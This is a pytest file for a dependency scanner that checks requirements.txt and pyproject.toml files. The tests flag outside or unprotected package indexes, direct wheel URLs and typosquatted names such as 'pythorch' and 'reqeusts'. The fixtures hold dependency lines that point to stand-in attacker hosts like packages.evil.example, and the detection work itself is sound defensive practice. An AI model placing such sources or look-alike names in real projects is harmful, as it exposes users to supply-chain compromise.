"""A list of packages says where they come from; what nobody knows or protects is found."""

from __future__ import annotations

import pytest

from assay.core.finding import Verdict
from assay.scanning.scanners.requirements.names import look_alike
from scanning.container_making import judge

GOOD = """\
# pip install --index-url http://mirror.example/simple torch
--extra-index-url https://download.pytorch.org/whl/cu121
torch==2.3.0+cu121  # os.system
transformers[torch]>=4.40,<5 ; python_version >= "3.9"
numpy==1.26.4 \\
    --hash=sha256:abababababababababababababababababababababababababababababababab
-e .
-r more.txt
torchmetrics
requests-cache
flash-attn @ https://github.com/Dao-AILab/flash-attention/releases/download/v2/f-2-cp311.whl
git+https://github.com/huggingface/transformers.git@v4.41.0
"""


def test_an_ordinary_list_is_clean() -> None:
    judged = judge(GOOD.encode(), "requirements.txt")
    assert judged.verdict is Verdict.CLEAN, judged
    assert judged.rules == {"requirements.repository"}


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("--index-url https://packages.evil.example/simple", "requirements.index"),
        ("--extra-index-url=https://packages.evil.example/simple", "requirements.index"),
        ("-i http://pypi.org/simple", "requirements.unprotected"),
        ("torch --index-url \\\n http://203.0.113.7/simple", "requirements.unprotected"),
        ("--trusted-host packages.evil.example", "requirements.unprotected"),
        ("-f https://packages.evil.example/wheels", "requirements.direct"),
        ("https://files.evil.example/fast-1.0-py3-none-any.whl", "requirements.direct"),
        ("fast @ https://files.evil.example/fast.whl", "requirements.direct"),
        ("-e git+https://git.evil.example/fast.git#egg=fast", "requirements.direct"),
        ("git+http://github.com/a/b.git", "requirements.unprotected"),
        ("-r https://files.evil.example/more.txt", "requirements.direct"),
    ],
)
def test_what_comes_from_elsewhere_is_malicious(line: str, rule: str) -> None:
    judged = judge(f"torch==2.3.0\n{line}\n".encode(), "requirements-dev.txt")
    assert rule in judged.rules
    assert judged.verdict is Verdict.MALICIOUS


def test_a_list_outside_of_the_folder_needs_a_person() -> None:
    judged = judge(b"-r ../../other/requirements.txt\n", "requirements.txt")
    assert judged.verdict is Verdict.SUSPICIOUS


def test_a_password_in_an_address_is_not_shown() -> None:
    judged = judge(b"-i https://me:hunter22x@packages.evil.example/simple\n", "requirements.txt")
    assert "hunter22x" not in " ".join(f.evidence for f in judged.findings)


@pytest.mark.parametrize(
    ("name", "popular"),
    [
        ("pythorch", "pytorch"),
        ("sklaern", "sklearn"),
        ("tensorfIow", "tensorflow"),
        ("tranformers", "transformers"),
        ("reqeusts", "requests"),
        ("huggingface_hb", "huggingface-hub"),
        ("nurnpy", "numpy"),
        ("numpyy", "numpy"),
        ("huggingface-hubb", "huggingface-hub"),
    ],
)
def test_a_name_one_letter_off_is_a_look_alike(name: str, popular: str) -> None:
    assert look_alike(name) == popular
    assert "requirements.look-alike" in judge(f"{name}==1\n".encode(), "requirements.txt").rules


@pytest.mark.parametrize(
    "name",
    "torch torchx torchmetrics transformers-stream-generator numpydoc requests-cache scapy "
    "tensorboardX kerasn keras2 torchx dataset tokenizers tokenizer Pillow PyYAML scikit_learn tensorflow-cpu torch-geometric "
    "pandas-stubs flask ray jax onnx timm trl numba sympy six attrs".split(),
)
def test_other_packages_are_no_look_alikes(name: str) -> None:
    assert look_alike(name) is None


PROJECT = """\
[project]
name = "m"
dependencies = ["torch>=2"{more}]
[project.urls]
homepage = "https://m.example"
"Bug Tracker" = "https://m.example/issues"
[tool.poetry.dependencies]
torch = "^2"
"""


def test_a_projects_own_pages_are_no_packages() -> None:
    judged = judge(PROJECT.format(more="").encode(), "pyproject.toml")
    assert not judged.findings, judged


def test_a_projects_packages_from_elsewhere_are_found() -> None:
    more = ', "fast @ https://files.evil.example/fast.whl"'
    judged = judge(PROJECT.format(more=more).encode(), "pyproject.toml")
    assert "requirements.direct" in judged.rules
    poetry = PROJECT.format(more="") + 'fast = {url = "https://files.evil.example/fast.whl"}\n'
    assert "requirements.direct" in judge(poetry.encode(), "pyproject.toml").rules
